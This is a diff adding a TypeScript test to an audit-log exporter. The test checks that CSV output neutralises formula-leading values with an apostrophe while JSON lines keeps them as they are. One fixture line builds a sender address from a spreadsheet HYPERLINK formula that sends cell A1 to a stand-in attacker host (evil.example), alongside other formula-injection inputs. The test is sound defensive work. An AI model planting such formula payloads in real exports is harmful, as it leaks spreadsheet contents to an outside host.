@@ -179,6 +179,35 @@ describe('exporting the audit log', () => {
     });
   });
 
+  it('as CSV, a value a spreadsheet would run as a formula starts with an apostrophe; JSON lines keep it as it is', async () => {
+    const tenant = await createTestTenant(database);
+    // A sender that is not authenticated is counted, and restricted, under the envelope sender it chose.
+    const sender = `=hyperlink("http://evil.example/"&a1)@${tenant.domain}`;
+    await services.restrictions.restrict(limitRestriction(tenant.id, sender));
+    const actors: Actor[] = [
+      { ...admin, id: '+1-555-0100', name: '@SUM(1+1)' },
+      { ...admin, id: 'oid-tab', name: '\tTabbed' },
+      { ...admin, id: 'oid-cr', name: '\rReturn' },
+    ];
+    for (const actor of actors) await recordAudit(database.db, { tenantId: tenant.id, actor, action: 'Listed', targetKind: 'user', target: `-2+3@${tenant.domain}`, at: clock.now() });
+
+    const rows = parseCsv((await collect(services.auditQueries.exportLog(tenant.id, {}, 'csv'))).text);
+    const column = (name: string) => rows.slice(1).map((r) => r[rows[0]?.indexOf(name) ?? -1]);
+    expect(column('target')).toEqual([`'${sender}`, `'-2+3@${tenant.domain}`, `'-2+3@${tenant.domain}`, `'-2+3@${tenant.domain}`]);
+    expect(column('actorId')).toEqual(['system:policy', "'+1-555-0100", 'oid-tab', 'oid-cr']);
+    expect(column('actorName')).toEqual(['Sendguard policy', "'@SUM(1+1)", "'\tTabbed", "'\rReturn"]);
+    // Only a first character makes a formula: the rest of a record is as it was.
+    expect(JSON.parse(column('after')[0] ?? '')).toMatchObject({ entityKey: sender });
+
+    const lines = (await collect(services.auditQueries.exportLog(tenant.id, {}, 'jsonl'))).text.trimEnd().split('\n').map((l) => JSON.parse(l) as { target: string; actorName: string });
+    expect(lines.map((l) => [l.target, l.actorName])).toEqual([
+      [sender, 'Sendguard policy'],
+      [`-2+3@${tenant.domain}`, '@SUM(1+1)'],
+      [`-2+3@${tenant.domain}`, '\tTabbed'],
+      [`-2+3@${tenant.domain}`, '\rReturn'],
+    ]);
+  });
+
   it('an empty result is a header alone (CSV) or nothing (JSON lines)', async () => {
     const tenant = await createTestTenant(database);
     expect((await collect(services.auditQueries.exportLog(tenant.id, {}, 'csv'))).text).toBe('id,occurredAt,tenantId,actorId,actorName,actorRoles,source,action,targetKind,target,result,before,after,details\r\n');
